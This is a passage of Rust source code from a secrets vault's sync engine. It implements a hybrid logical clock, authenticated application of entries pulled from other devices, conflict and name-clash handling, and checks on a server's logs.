//! Sync inside the engine (docs/sync.md): the hybrid logical clock, this
//! device's log, applying pulled entries, conflicts and name clashes. The
//! network side is [`crate::remote::syncer`].
//!
//! Every revision is stamped ([`Stamp`]) inside its encrypted body with the
//! device whose log holds it, its index there, its clock and the revisions
//! it was written over. Per record the head is the revision with the
//! greatest `(clock, device)`; every other revision stays in history. A
//! logged revision that is not the head and that no revision was written
//! over is a conflict (`vault conflicts`) until a change by the user names
//! it as a parent. Two live records claiming one name: the one whose head
//! ranks higher keeps it, the other is listed as [`derived_name`] until it
//! is renamed, changed (which adopts the derived name) or the name frees up.
//! All of this is a function of the set of revisions, so devices that have
//! applied the same entries agree, whatever the order.

use std::collections::{BTreeMap, HashSet};
use std::time::{SystemTime, UNIX_EPOCH};

use tracing::{info, warn};
use vault_protocol::message::{ConflictInfo, ConflictKind, LogCheck};
use vault_protocol::timefmt::Timestamp;
use vault_protocol::{ErrorCode, SecretValue, validate_name};

use super::{Engine, IndexEntry, Result, Session, decrypt_body, err, store_err};
use crate::crypto::VaultKey;
use crate::record::{AUTH_VERSION, Rank, RecordBody, Stamp};
use crate::store::{LogEntry, LogStamp, RecordRow, StoreError, SyncTx};

/// The next clock value after `last`: wall-clock milliseconds << 16, or
/// `last + 1` when the wall clock is behind.
pub fn tick(last: u64) -> u64 {
    let ms = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_millis() as u64)
        .unwrap_or(0);
    (ms << 16).max(last + 1)
}

/// Unix seconds of a clock value.
pub fn clock_secs(clock: u64) -> i64 {
    ((clock >> 16) / 1000) as i64
}

/// The name a record is listed under after losing `name` to a concurrent
/// record: `NAME@conflict-ID8`, within the 128-character limit.
pub fn derived_name(name: &str, id: &str) -> String {
    let suffix = format!("@conflict-{}", &id[..id.len().min(8)]);
    // Names are ASCII, so any byte offset is a char boundary.
    let keep = name.len().min(128 - suffix.len());
    format!("{}{suffix}", &name[..keep])
}

/// Forgets that record `id` claims `name`.
pub(super) fn unclaim(sess: &mut Session, name: &str, id: &str) {
    if let Some(ids) = sess.claims.get_mut(name) {
        ids.remove(id);
        if ids.is_empty() {
            sess.claims.remove(name);
        }
    }
}

/// Gives `name` to the live record claiming it whose head ranks highest;
/// the others are listed under derived names.
fn settle(
    sess: &mut Session,
    tx: &mut SyncTx<'_>,
    name: &str,
) -> std::result::Result<(), StoreError> {
    let mut cands: Vec<(Rank, String, bool)> = Vec::new();
    if let Some(e) = sess.index.get(name).filter(|e| e.claims.is_none()) {
        cands.push((e.rank.clone(), e.id.clone(), false));
    }
    for id in sess.claims.get(name).cloned().unwrap_or_default() {
        if let Some(e) = sess.index.get(&derived_name(name, &id)) {
            cands.push((e.rank.clone(), id, true));
        }
    }
    let Some(winner) = cands
        .iter()
        .max_by(|a, b| a.0.cmp(&b.0))
        .map(|c| c.1.clone())
    else {
        return Ok(());
    };
    // Losers first: the name's blind index must be free before the winner
    // takes it.
    for (_, id, shadowed) in &cands {
        if *id != winner && !shadowed {
            let listed = derived_name(name, id);
            if let Some(mut e) = sess.index.remove(name) {
                e.claims = Some(name.to_owned());
                sess.index.insert(listed.clone(), e);
            }
            sess.claims
                .entry(name.to_owned())
                .or_default()
                .insert(id.clone());
            tx.set_name(id, &sess.key.name_mac(&listed), true)?;
            info!(record = %id, "lost its name to a concurrent record");
        }
    }
    if cands
        .iter()
        .any(|(_, id, shadowed)| *id == winner && *shadowed)
    {
        if let Some(mut e) = sess.index.remove(&derived_name(name, &winner)) {
            e.claims = None;
            sess.index.insert(name.to_owned(), e);
        }
        unclaim(sess, name, &winner);
        tx.set_name(&winner, &sess.key.name_mac(name), false)?;
    }
    Ok(())
}

/// One entry of another device's log, as pulled.
#[derive(Debug)]
pub struct Pulled {
    /// The device whose log holds it.
    pub device: String,
    /// Its index there.
    pub index: u64,
    /// The key id it was pushed with.
    pub key_id: String,
    /// The age ciphertext.
    pub data: Vec<u8>,
}

/// What [`Engine::apply`] did.
#[derive(Debug, Default)]
pub struct Applied {
    /// Entries applied.
    pub applied: u64,
    /// Entries refused and logs that stopped, with why and what to do.
    pub refused: Vec<String>,
    /// Devices whose log stopped in this batch (a gap, or an entry held):
    /// nothing after the stop is applied until the next sync.
    pub stopped: Vec<String>,
}

/// How far ahead of this machine's clock a pulled entry's clock may be.
/// Further, and it would win every later change for as long as it is
/// ahead: it is held until this machine's clock catches up.
pub const MAX_CLOCK_SKEW_SECS: i64 = 600;

/// What the network side needs for one sync.
#[derive(Debug)]
pub struct Target {
    /// The server's base URL.
    pub url: String,
    /// The access token.
    pub token: SecretValue,
    /// The vault id.
    pub vault_id: String,
    /// This device.
    pub device: String,
    /// The vault's key id.
    pub key_id: String,
    /// `identity.age`, read only to create the vault on the server.
    pub identity: std::path::PathBuf,
    /// This device's log is on the server through this index.
    pub pushed: u64,
    /// Other devices' logs are applied through these indexes.
    pub seen: BTreeMap<String, u64>,
}

/// Why a pulled entry is not applied.
enum Refusal {
    /// Never applied; the device's later entries still are.
    Skip(String),
    /// Like `Skip`, for an entry written without authentication.
    Legacy(String),
    /// Not applied yet: the device's log waits at it.
    Hold(String),
    Store(StoreError),
}

impl From<StoreError> for Refusal {
    fn from(e: StoreError) -> Self {
        Refusal::Store(e)
    }
}

const PUSHED: &str = "sync_pushed";

/// `vault_meta` key set once this device's records are re-authenticated
/// (body v3): from then on it writes and accepts authenticated entries only.
pub const AUTH_MARK: &str = "sync_auth";

/// Whether a change is the daemon's, not the user's: it neither resolves
/// conflicts nor adopts a derived name.
pub fn is_background(change: &str) -> bool {
    matches!(change, "refresh" | "reauth")
}

/// How many refused entries `vault sync status` lists.
pub const SHOWN_REFUSALS: usize = 20;

impl Engine {
    pub(super) fn meta(&self, key: &str) -> Result<Option<String>> {
        self.store()?.meta(key).map_err(store_err)
    }

    /// The server and token, decrypted; `None` before `vault login`.
    pub fn sync_target(&self) -> Result<Option<Target>> {
        let Some(url) = self.meta("sync_url")? else {
            return Ok(None);
        };
        self.session()?;
        let sealed = self.meta("sync_token")?.unwrap_or_default();
        let token = hex::decode(sealed)
            .ok()
            .and_then(|ct| self.unseal(&ct))
            .ok_or_else(|| {
                err(
                    ErrorCode::Failed,
                    "the stored access token cannot be read: run 'vault login' again",
                )
            })?;
        let store = self.store()?;
        Ok(Some(Target {
            url,
            token: SecretValue::new(token),
            vault_id: self.meta("vault_id")?.unwrap_or_default(),
            device: self.device.clone(),
            key_id: self.meta("key_id")?.unwrap_or_default(),
            identity: self.paths.identity(),
            pushed: self.pushed()?,
            seen: store.seen().map_err(store_err)?,
        }))
    }

    /// Whether `vault init` (or a join) has made a vault here.
    pub fn is_initialized(&self) -> bool {
        self.vault.store().is_some()
    }

    /// Forgets the server and token.
    pub fn forget_login(&mut self) -> Result<()> {
        self.store_mut()?
            .delete_meta(&["sync_url", "sync_token"])
            .map_err(store_err)
    }

    /// How many conflicts are open.
    pub fn conflict_count(&self) -> Result<u64> {
        Ok(self.store()?.conflicts().map_err(store_err)?.len() as u64)
    }

    /// Compares this device's copy of every log with the server's `heads`
    /// (`vault sync verify`).
    pub fn verify_logs(&self, heads: &BTreeMap<String, u64>) -> Result<Vec<LogCheck>> {
        let store = self.store()?;
        let pushed = self.pushed()?;
        // This device first, then every other one known here or there.
        let mut others: std::collections::BTreeSet<String> =
            store.seen().map_err(store_err)?.into_keys().collect();
        others.extend(heads.keys().cloned());
        others.remove(&self.device);
        // What applied entries prove each log reaches: entries up to
        // there are missing here even when the server does not list them.
        let claimed: BTreeMap<String, u64> = store
            .claims()
            .map_err(store_err)?
            .into_iter()
            .map(|c| (c.device, c.through))
            .collect();
        others.extend(claimed.keys().cloned());
        others.remove(&self.device);
        let mut out = Vec::new();
        for device in std::iter::once(self.device.clone()).chain(others) {
            let mine = device == self.device;
            let server_head = heads.get(&device).copied().unwrap_or(0);
            let local_head = store.log_last(&device).map_err(store_err)?;
            let proven = if mine {
                0
            } else {
                claimed.get(&device).copied().unwrap_or(0)
            };
            let mut missing_here = ranges(
                &store
                    .log_holes(&device, server_head.max(local_head).max(proven))
                    .map_err(store_err)?,
            );
            // This device's entries written but not pushed yet are a queue,
            // not a hole.
            let missing_there = if mine {
                (pushed > server_head).then_some((server_head + 1, pushed))
            } else {
                (local_head > server_head).then_some((server_head + 1, local_head))
            };
            if mine {
                missing_here.retain(|(a, _)| *a <= server_head);
            }
            out.push(LogCheck {
                device,
                this_device: mine,
                server_head,
                local_head,
                missing_here,
                missing_there: missing_there.into_iter().collect(),
            });
        }
        Ok(out)
    }

    /// Pulled entries refused and not applied since, for `vault sync
    /// status` and `vault doctor`: the newest [`SHOWN_REFUSALS`], then how
    /// many more.
    pub fn refusals(&self) -> Vec<String> {
        let Some(store) = self.vault.store() else {
            return Vec::new();
        };
        let all = store.refused().unwrap_or_default();
        let more = all.len().saturating_sub(SHOWN_REFUSALS);
        let mut out: Vec<String> = all[more..]
            .iter()
            .map(|r| {
                format!(
                    "entry {} of device {} {} since {}: {}",
                    r.index,
                    r.device,
                    if r.held { "held" } else { "refused" },
                    Timestamp(r.first_seen),
                    r.reason
                )
            })
            .collect();
        if more > 0 {
            out.insert(0, format!("{more} more refused entries (see vaultd.log)"));
        }
        out
    }

    /// What a server's `heads` hide, judged by what this device knows: a
    /// log shorter there than what was applied here (the server went back
    /// or dropped a device), and a log that applied entries prove longer
    /// than what arrived (withheld). Logs in `skip` stopped at a gap or a
    /// held entry and are reported as such.
    pub fn check_heads(
        &self,
        heads: &BTreeMap<String, u64>,
        skip: &std::collections::BTreeSet<String>,
    ) -> Result<Vec<String>> {
        let store = self.store()?;
        let seen = store.seen().map_err(store_err)?;
        let mut out = Vec::new();
        for (device, applied) in &seen {
            let server = heads.get(device).copied().unwrap_or(0);
            if *device == self.device || skip.contains(device) || server >= *applied {
                continue;
            }
            out.push(format!(
                "the server's copy of device {device}'s log ends at {server}, before entry \
                 {applied} already applied here: the server went back (an old backup?) or hides \
                 entries; nothing here was changed. Tell whoever runs the server"
            ));
        }
        for c in store.claims().map_err(store_err)? {
            if c.device == self.device {
                if c.through > self.log_last {
                    out.push(format!(
                        "entry {} of device {} shows this device's log reaching {}, but it ends \
                         at {} here: this vault.db is older than what it synced (restored from \
                         a backup?); join afresh from a new VAULT_HOME",
                        c.by.1, c.by.0, c.through, self.log_last
                    ));
                }
                continue;
            }
            let have = seen.get(&c.device).copied().unwrap_or(0);
            if skip.contains(&c.device) || c.through <= have {
                continue;
            }
            let server = heads.get(&c.device).copied().unwrap_or(0);
            out.push(format!(
                "entry {} of device {} shows device {}'s log reaching {}, but the server sent \
                 only {} (it lists {}): it is withholding entries or lost them; nothing here \
                 was changed. Run 'vault sync verify'",
                c.by.1, c.by.0, c.device, c.through, have, server
            ));
        }
        Ok(out)
    }

    /// Sets up a repair of what [`Engine::verify_logs`] found: the next
    /// sync pushes this device's log again from the server's head and pulls
    /// other devices' logs again from their first missing entry.
    pub fn prepare_repair(&mut self, checks: &[LogCheck]) -> Result<()> {
        // Refused entries are fetched again too: a server that sent a
        // forgery in place of a real entry may send the real one now (it
        // applies and leaves the list); a forgery is refused again, quietly.
        let mut first_refused: BTreeMap<String, u64> = BTreeMap::new();
        for r in self.store()?.refused().map_err(store_err)? {
            let first = first_refused.entry(r.device).or_insert(r.index);
            *first = (*first).min(r.index);
        }
        for (device, first) in first_refused {
            let seen = self.seen()?.get(&device).copied().unwrap_or(0);
            if first <= seen {
                self.store_mut()?
                    .reset_seen(&device, first - 1)
                    .map_err(store_err)?;
            }
        }
        for c in checks {
            if c.this_device {
                if !c.missing_there.is_empty() {
                    self.set_pushed(c.server_head)?;
                }
            } else if let Some((first, _)) = c.missing_here.first() {
                let seen = self.seen()?.get(&c.device).copied().unwrap_or(0);
                self.store_mut()?
                    .reset_seen(&c.device, (first - 1).min(seen))
                    .map_err(store_err)?;
            }
        }
        Ok(())
    }

    /// Other devices' logs applied so far.
    pub fn seen(&self) -> Result<BTreeMap<String, u64>> {
        self.store()?.seen().map_err(store_err)
    }

    /// The server URL, if logged in (readable while locked).
    pub fn sync_server(&self) -> Option<String> {
        self.vault.store()?.meta("sync_url").ok()?
    }

    /// Stores the server URL and the access token, encrypted to the vault
    /// key, in the vault.
    pub fn save_login(&mut self, url: &str, token: &SecretValue) -> Result<()> {
        let ct = self.seal(token.expose_secret())?;
        self.store_mut()?
            .set_meta(&[("sync_url", url), ("sync_token", &hex::encode(ct))])
            .map_err(store_err)
    }

    fn pushed(&self) -> Result<u64> {
        Ok(self.meta(PUSHED)?.and_then(|v| v.parse().ok()).unwrap_or(0))
    }

    /// Local changes not yet on the server.
    pub fn queued(&self) -> u64 {
        self.log_last.saturating_sub(self.pushed().unwrap_or(0))
    }

    /// The last index of this device's log.
    pub fn log_last(&self) -> u64 {
        self.log_last
    }

    /// This device's log entries after `after`, at most `limit`.
    pub fn log_after(&self, after: u64, limit: usize) -> Result<Vec<LogEntry>> {
        self.store()?
            .log_after(&self.device, after, limit)
            .map_err(store_err)
    }

    /// Notes that the server holds this device's log through `head`.
    pub fn set_pushed(&mut self, head: u64) -> Result<()> {
        self.store_mut()?
            .set_meta(&[(PUSHED, &head.to_string())])
            .map_err(store_err)
    }

    /// Logs every live record written before sync existed, as a new
    /// revision (`enroll`), so it can be pushed; and, once after the
    /// upgrade to authenticated entries (body v3), every live record whose
    /// head this device wrote unauthenticated (`reauth`), so that devices
    /// joining later can verify it. Returns how many.
    pub fn enroll(&mut self, now: Timestamp) -> Result<usize> {
        // New revisions are always logged: once none is left, none comes back.
        if self.enrolled {
            return Ok(0);
        }
        let upgrade = self.meta(AUTH_MARK)?.is_none();
        let rows = if upgrade {
            self.live_rows()?
        } else {
            self.store()?.unlogged_heads().map_err(store_err)?
        };
        let mut n = 0;
        for row in rows {
            // One unreadable record (logged at unlock) must not stop sync.
            let body = match decrypt_body(&self.session()?.key, &row) {
                Ok(body) => body,
                Err(e) => {
                    warn!(record = %row.id, error = %e.message, "not enrolled: unreadable");
                    continue;
                }
            };
            let change = match &body.sync {
                None => "enroll",
                Some(s) if body.v < AUTH_VERSION && s.device == self.device => "reauth",
                Some(_) => continue,
            };
            let listed = if row.shadowed {
                derived_name(&body.name, &row.id)
            } else {
                body.name.clone()
            };
            self.commit(row, body, &listed, change, now)?;
            n += 1;
        }
        if n > 0 {
            info!(records = n, "enrolled or re-authenticated records");
        }
        if upgrade {
            self.store_mut()?
                .set_meta(&[(AUTH_MARK, "1")])
                .map_err(store_err)?;
        }
        self.enrolled = true;
        Ok(n)
    }

    /// Applies pulled entries in one transaction: each device's entries must
    /// follow on from what was applied before (a gap stops that device until
    /// the next pull), must be encrypted to this vault's key and must carry
    /// the place they are filed under.
    pub fn apply(&mut self, entries: Vec<Pulled>, now: Timestamp) -> Result<Applied> {
        let me = self.device.clone();
        let vault = Expected {
            key_id: self.meta("key_id")?.unwrap_or_default(),
            vault_id: self.meta("vault_id")?.unwrap_or_default(),
            now,
        };
        let bound: HashSet<String> = self
            .store()?
            .emitters()
            .map_err(store_err)?
            .into_iter()
            .map(|e| e.record_id)
            .collect();
        self.session()?;
        let mut out = Applied::default();
        let mut touched = Vec::new();
        let mut clock = self.clock;
        let result = (|| -> std::result::Result<(), StoreError> {
            let Some((store, sess)) = self.vault.parts_mut() else {
                return Ok(());
            };
            let mut seen = store.seen()?;
            let mut known = Known::load(store)?;
            let mut tx = store.sync_tx()?;
            let mut stopped = HashSet::new();
            for e in entries {
                if e.device == me || stopped.contains(&e.device) {
                    continue;
                }
                let last = seen.get(&e.device).copied().unwrap_or(0);
                if e.index <= last {
                    continue;
                }
                if e.index != last + 1 {
                    out.refused.push(format!(
                        "entries {}..{} of device {} are missing from the server's answer; \
                         they are fetched again on the next sync",
                        last + 1,
                        e.index - 1,
                        e.device
                    ));
                    stopped.insert(e.device.clone());
                    out.stopped.push(e.device.clone());
                    continue;
                }
                known.pending = None;
                match apply_one(sess, &mut tx, &e, &vault, &mut known) {
                    Ok(Some((c, changed))) => {
                        known.applied(&mut tx, &e.device)?;
                        clock = clock.max(c);
                        if let Some((row, body)) = changed
                            && bound.contains(&row.id)
                        {
                            touched.push((row, body));
                        }
                    }
                    // Already here (a repair, or a retried page): not
                    // counted again.
                    Ok(None) => {
                        seen.insert(e.device.clone(), e.index);
                        tx.set_seen(&e.device, e.index)?;
                        continue;
                    }
                    Err(refusal) => {
                        if refuse(&mut tx, &e, refusal, now, &mut out)? {
                            stopped.insert(e.device.clone());
                            out.stopped.push(e.device.clone());
                        } else {
                            // Skipped: that device's later entries go on.
                            seen.insert(e.device.clone(), e.index);
                            tx.set_seen(&e.device, e.index)?;
                        }
                        continue;
                    }
                }
                seen.insert(e.device.clone(), e.index);
                tx.set_seen(&e.device, e.index)?;
                out.applied += 1;
            }
            for device in &known.moved {
                if let Some(Some(head)) = known.chains.get(device) {
                    tx.set_chain(device, *head)?;
                }
            }
            tx.commit()
        })();
        if let Err(e) = result {
            // The index may hold changes the rollback undid.
            self.reindex();
            return Err(store_err(e));
        }
        self.clock = clock;
        for (row, body) in touched {
            self.rerender(&row, &body, now);
        }
        Ok(out)
    }

    /// Rebuilds the index from the store.
    fn reindex(&mut self) {
        let Ok(scan) = self
            .scan_rows()
            .and_then(|rows| self.match_rows(rows, Default::default()))
        else {
            return;
        };
        let Some(sess) = self.vault.lock() else {
            return;
        };
        let index = Self::build_index(&sess.key, scan);
        let (idle, hard) = (sess.idle_deadline, sess.hard_deadline);
        self.install(sess.key, index, Timestamp::now());
        if let Some(s) = self.vault.session_mut() {
            s.idle_deadline = idle;
            s.hard_deadline = hard;
        }
    }

    /// After a local change freed `name`: a record that lost it takes it.
    pub(super) fn settle_local(&mut self, name: &str) -> Result<()> {
        if let Err(e) = self.settle_name(name) {
            self.reindex();
            return Err(store_err(e));
        }
        Ok(())
    }

    /// [`settle`] in its own transaction.
    pub(super) fn settle_name(&mut self, name: &str) -> std::result::Result<(), StoreError> {
        let Some((store, sess)) = self.vault.parts_mut() else {
            return Ok(());
        };
        if !sess.claims.contains_key(name) {
            return Ok(());
        }
        let mut tx = store.sync_tx()?;
        settle(sess, &mut tx, name)?;
        tx.commit()
    }

    /// Open conflicts: revisions that lost to a concurrent change, and
    /// records that lost their name.
    pub fn conflicts(&self) -> Result<Vec<ConflictInfo>> {
        let sess = self.session()?;
        let store = self.store()?;
        let names: BTreeMap<&str, &str> = sess
            .index
            .iter()
            .map(|(n, e)| (e.id.as_str(), n.as_str()))
            .collect();
        let mut out = Vec::new();
        for c in store.conflicts().map_err(store_err)? {
            let name = match names.get(c.record_id.as_str()) {
                Some(n) => (*n).to_owned(),
                None => match store.by_id(&c.record_id).map_err(store_err)? {
                    Some(row) => decrypt_body(&sess.key, &row)
                        .map(|b| b.name)
                        .unwrap_or_else(|_| c.record_id.clone()),
                    None => c.record_id.clone(),
                },
            };
            out.push(ConflictInfo {
                name,
                kind: ConflictKind::Edit,
                revision: Some(c.revision),
                head: Some(c.head),
                device: Some(c.device),
                at: Some(Timestamp(c.updated_at)),
                deleted: c.deleted,
                claims: None,
                deleted_head: !names.contains_key(c.record_id.as_str()),
            });
        }
        for (name, e) in &sess.index {
            if let Some(claims) = &e.claims {
                out.push(ConflictInfo {
                    name: name.clone(),
                    kind: ConflictKind::Name,
                    revision: None,
                    head: Some(e.revision),
                    device: (e.rank != Rank::default()).then(|| e.rank.device.clone()),
                    at: Some(e.updated_at),
                    deleted: false,
                    claims: Some(claims.clone()),
                    deleted_head: false,
                });
            }
        }
        Ok(out)
    }
}

/// Sorted numbers as inclusive ranges.
fn ranges(list: &[u64]) -> Vec<(u64, u64)> {
    let mut out: Vec<(u64, u64)> = Vec::new();
    for &i in list {
        match out.last_mut() {
            Some((_, end)) if *end + 1 == i => *end = i,
            _ => out.push((i, i)),
        }
    }
    out
}

/// What a pulled entry must match: this vault, and this machine's clock.
struct Expected {
    key_id: String,
    vault_id: String,
    now: Timestamp,
}

/// What one [`Engine::apply`] batch keeps in memory instead of asking the
/// database for every entry: each device's chain head, and how far claims
/// already reach.
#[derive(Default)]
struct Known {
    chains: std::collections::HashMap<String, Option<crate::store::ChainHead>>,
    /// Devices whose chain head this batch moved (written once at the end).
    moved: HashSet<String>,
    claims: std::collections::HashMap<String, u64>,
    /// Entries refused earlier: one that applies now leaves the list.
    refused: HashSet<(String, u64)>,
    /// The chain head of the entry being applied, kept once it applies.
    pending: Option<crate::store::ChainHead>,
}

impl Known {
    /// What the store knows before the batch: how far claims reach, and
    /// the entries refused so far.
    fn load(store: &crate::store::Store) -> std::result::Result<Self, StoreError> {
        Ok(Known {
            claims: store
                .claims()?
                .into_iter()
                .map(|c| (c.device, c.through))
                .collect(),
            refused: store
                .refused()?
                .into_iter()
                .map(|r| (r.device, r.index))
                .collect(),
            ..Known::default()
        })
    }

    /// The entry of `device` under way applied: its chain head is known.
    fn applied(
        &mut self,
        tx: &mut SyncTx<'_>,
        device: &str,
    ) -> std::result::Result<(), StoreError> {
        let Some(head) = self.pending.take() else {
            return Ok(());
        };
        self.chains.insert(device.to_owned(), Some(head));
        self.moved.insert(device.to_owned());
        if self.refused.remove(&(device.to_owned(), head.index)) {
            tx.unrefuse(device, head.index)?;
        }
        Ok(())
    }
}

/// Keeps a refused entry (so status and doctor show it until it applies;
/// logged the first time only) and reports it. Whether it holds back its
/// device's later entries.
fn refuse(
    tx: &mut SyncTx<'_>,
    e: &Pulled,
    refusal: Refusal,
    now: Timestamp,
    out: &mut Applied,
) -> std::result::Result<bool, StoreError> {
    let (why, held, legacy) = match refusal {
        Refusal::Hold(why) => (why, true, false),
        Refusal::Skip(why) => (why, false, false),
        Refusal::Legacy(why) => (why, false, true),
        Refusal::Store(e) => return Err(e),
    };
    if tx.refuse(&e.device, e.index, &why, (held, legacy), now.unix())? {
        warn!(device = %e.device, index = e.index, reason = %why, "pulled entry refused");
    }
    out.refused
        .push(format!("entry {} of device {}: {why}", e.index, e.device));
    Ok(held)
}

/// A pulled entry that passed every check of [`verify_entry`].
struct Verified {
    body: RecordBody,
    stamp: Stamp,
    /// Its MAC: the link the device's next entry must name.
    mac: [u8; 32],
}

/// Checks one pulled entry; reads, never writes. It is authenticated (body
/// v3, a MAC under the vault's entry key), names this vault and the place
/// it is filed under, holds a valid record, follows on from the last
/// applied entry of its device's chain and has a sane clock. `None`: it was
/// applied before.
fn verify_entry(
    sess: &Session,
    tx: &mut SyncTx<'_>,
    e: &Pulled,
    want: &Expected,
    known: &mut Known,
) -> std::result::Result<Option<Verified>, Refusal> {
    let forged = || {
        Refusal::Skip(
            "it fails authentication: no device of this vault wrote it (a forgery by someone \
             with write access to the server, or damage); it is not applied. Revoke server \
             access tokens you do not recognise"
                .to_owned(),
        )
    };
    if e.key_id != want.key_id {
        return Err(Refusal::Skip(format!(
            "it was pushed with another vault key ({}): it belongs to another vault; it is not \
             applied",
            e.key_id
        )));
    }
    if tx.has_entry(&e.device, e.index)? {
        return Ok(None);
    }
    let plain = sess.key.decrypt(&e.data).map_err(|_| {
        Refusal::Skip("it cannot be decrypted with this vault's key; it is not applied".to_owned())
    })?;
    let body = RecordBody::parse(&plain).map_err(Refusal::Skip)?;
    if body.v < AUTH_VERSION {
        return Err(Refusal::Legacy(format!(
            "it was written without authentication (body v{}): by a device still on an older \
             vault, or forged; it is not applied. Upgrade vault on device {} and run 'vault \
             sync' there",
            body.v, e.device
        )));
    }
    let (signed, mac) = RecordBody::signed_part(&plain).ok_or_else(forged)?;
    if !sess.key.verify_entry(&signed, &mac) || body.mac.is_none() {
        return Err(forged());
    }
    let stamp: Stamp = body.sync.clone().ok_or_else(forged)?;
    if stamp.vault != want.vault_id {
        return Err(Refusal::Skip(format!(
            "it belongs to vault {}, not this one; it is not applied",
            stamp.vault
        )));
    }
    if stamp.device != e.device || stamp.index != e.index {
        return Err(Refusal::Skip(format!(
            "it holds entry {} of device {} (the server swapped, moved or replayed entries); \
             it is not applied",
            stamp.index, stamp.device
        )));
    }
    let id_ok = body.id.len() == 32
        && body
            .id
            .bytes()
            .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b));
    if validate_name(&body.name).is_err() || !id_ok {
        return Err(Refusal::Skip(
            "it holds an invalid record; it is not applied".to_owned(),
        ));
    }
    follows_chain(tx, e, &stamp, known)?;
    clock_is_sane(e, &stamp, want.now)?;
    if body.expires_at.is_some_and(|t| !t.in_range()) {
        return Err(Refusal::Skip(
            "its expiry is out of range; it is not applied".to_owned(),
        ));
    }
    Ok(Some(Verified { body, stamp, mac }))
}

/// When the entry before `e` was applied here, `e` must name its MAC.
fn follows_chain(
    tx: &mut SyncTx<'_>,
    e: &Pulled,
    stamp: &Stamp,
    known: &mut Known,
) -> std::result::Result<(), Refusal> {
    let chain = match known.chains.get(&e.device) {
        Some(c) => *c,
        None => {
            let c = tx.chain(&e.device)?;
            known.chains.insert(e.device.clone(), c);
            c
        }
    };
    if let Some(head) = chain
        && head.index + 1 == e.index
        && stamp.prev != hex::encode(head.mac)
    {
        return Err(Refusal::Skip(format!(
            "it does not follow on from entry {} of that device (the server replaced or \
             reordered entries); it is not applied",
            head.index
        )));
    }
    Ok(())
}

/// An entry whose clock is too far ahead of this machine's waits.
fn clock_is_sane(e: &Pulled, stamp: &Stamp, now: Timestamp) -> std::result::Result<(), Refusal> {
    let ahead = clock_secs(stamp.clock).saturating_sub(now.unix());
    if ahead > MAX_CLOCK_SKEW_SECS {
        return Err(Refusal::Hold(format!(
            "its clock is {} ahead of this machine's (at most {} is accepted); it waits until \
             then, and so do that device's later entries. Check the clock on device {} and \
             on this machine",
            vault_protocol::timefmt::format_duration_short(std::time::Duration::from_secs(
                ahead as u64
            )),
            vault_protocol::timefmt::format_duration_short(std::time::Duration::from_secs(
                MAX_CLOCK_SKEW_SECS as u64
            )),
            e.device
        )));
    }
    Ok(())
}

/// Applies one pulled entry once [`verify_entry`] passed it (nothing is
/// written before): records what it vouches for, files it as a revision,
/// and when it wins ([`Rank`]) makes it the head and updates the index.
/// Returns its clock and, when it became the head, the new head.
#[allow(clippy::type_complexity)]
fn apply_one(
    sess: &mut Session,
    tx: &mut SyncTx<'_>,
    e: &Pulled,
    want: &Expected,
    known: &mut Known,
) -> std::result::Result<Option<(u64, Option<(RecordRow, RecordBody)>)>, Refusal> {
    let Some(v) = verify_entry(sess, tx, e, want, known)? else {
        return Ok(None);
    };
    vouch(tx, e, &v, known)?;
    let parents: Vec<(String, u64)> = v
        .stamp
        .parents
        .iter()
        .map(|p| (p.device.clone(), p.index))
        .collect();
    let existing = tx.by_id(&v.body.id)?;
    let wins = rank_against_head(tx, &v, existing.as_ref(), &parents)?;
    let log = LogStamp {
        index: e.index,
        clock: v.stamp.clock,
        mac: v.mac,
    };
    let updated = clock_secs(v.stamp.clock);
    let mut row = RecordRow {
        id: v.body.id.clone(),
        name_mac: Vec::new(),
        kind: v.body.kind.as_str().to_owned(),
        revision: existing.as_ref().map_or(0, |r| r.revision),
        created_at: existing.as_ref().map_or(updated, |r| r.created_at),
        updated_at: updated,
        expires_at: v.body.expires_at.map(Timestamp::unix),
        deleted: v.stamp.deleted,
        body: e.data.clone(),
        shadowed: false,
    };
    if !wins {
        // Kept in history only.
        tx.add_revision(&mut row, &e.device, &v.stamp.change, log, false)?;
        tx.add_parents(&row.id, &parents)?;
        return Ok(Some((v.stamp.clock, None)));
    }
    become_head(sess, tx, e, &v, existing.as_ref(), &mut row, log)?;
    tx.add_parents(&row.id, &parents)?;
    Ok(Some((v.stamp.clock, Some((row, v.body)))))
}

/// Records what a verified entry vouches for: how far it saw other
/// devices' logs, the end of its device's unauthenticated history, and (for
/// the caller to keep once the entry applies) its device's new chain head.
fn vouch(
    tx: &mut SyncTx<'_>,
    e: &Pulled,
    v: &Verified,
    known: &mut Known,
) -> std::result::Result<(), StoreError> {
    for (device, through) in &v.stamp.seen {
        if known.claims.get(device).is_none_or(|c| through > c) {
            tx.claim(device, *through, (&e.device, e.index))?;
            known.claims.insert(device.clone(), *through);
        }
    }
    if v.stamp.prev.is_empty() {
        // The first authenticated entry of its device: what came before it
        // unauthenticated is that device's history from before the upgrade.
        tx.forget_legacy(&e.device, e.index)?;
    }
    // The chain heads are written once per batch at its end.
    known.pending = Some(crate::store::ChainHead {
        index: e.index,
        mac: v.mac,
    });
    Ok(())
}

/// Whether a verified entry beats its record's head ([`Rank`]); files a
/// fork when it leaves a revision nobody built on (it loses, or wins
/// without having seen the head).
fn rank_against_head(
    tx: &mut SyncTx<'_>,
    v: &Verified,
    existing: Option<&RecordRow>,
    parents: &[(String, u64)],
) -> std::result::Result<bool, StoreError> {
    let head = match existing {
        None => None,
        Some(_) => tx.head_rank(&v.body.id)?,
    };
    let wins = head.as_ref().is_none_or(|h| v.stamp.rank() > h.rank);
    let seen_head = head.as_ref().is_some_and(|h| {
        parents
            .iter()
            .any(|(pd, pi)| *pd == h.rank.device && *pi == h.index)
    });
    if existing.is_some() && (!wins || !seen_head) {
        tx.add_fork(&v.body.id)?;
    }
    Ok(wins)
}

/// Makes a winning entry its record's head: the old head leaves the index,
/// the new one takes its name (or a derived one when another record holds
/// it), and the names it frees or takes are settled.
fn become_head(
    sess: &mut Session,
    tx: &mut SyncTx<'_>,
    e: &Pulled,
    v: &Verified,
    existing: Option<&RecordRow>,
    row: &mut RecordRow,
    log: LogStamp,
) -> std::result::Result<(), Refusal> {
    let body = &v.body;
    let mut freed = None;
    if let Some(old) = existing.filter(|r| !r.deleted) {
        let old_body = decrypt_body(&sess.key, old).map_err(|e| {
            Refusal::Hold(format!(
                "it changes record {}, whose copy here cannot be read ({}); it is not applied",
                old.id, e.message
            ))
        })?;
        if old.shadowed {
            sess.index.remove(&derived_name(&old_body.name, &old.id));
